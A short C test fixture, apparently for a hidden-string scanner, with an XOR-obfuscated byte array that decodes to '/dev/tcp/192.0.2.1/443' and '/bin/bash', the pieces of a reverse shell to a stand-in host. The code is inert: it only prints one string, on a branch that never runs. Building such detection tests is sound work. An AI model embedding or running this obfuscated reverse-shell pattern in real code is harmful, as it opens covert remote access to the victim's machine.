/* Stripped and optimised.
 * expect: native-hidden-texts
 * flags: -O2 -s
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>

static const unsigned char hidden[] = {0x73, 0x38, 0x39, 0x2a, 0x73, 0x28, 0x3f, 0x2c, 0x73, 0x6d, 0x65, 0x6e, 0x72, 0x6c, 0x72, 0x6e, 0x72, 0x6d, 0x73, 0x68, 0x68, 0x6f, 0x5c, 0x73, 0x3e, 0x35, 0x32, 0x73, 0x3e, 0x3d, 0x2f, 0x34, 0x5c};
static int act(void) {
    char plain[sizeof hidden];
    for (unsigned i = 0; i < sizeof hidden; i++)
        plain[i] = hidden[i] ^ 0x5c;
    return puts(plain);
}

/* Never true: the code is compiled and cannot run. */
static volatile int never;

int main(void) { return never ? act() : 0; }
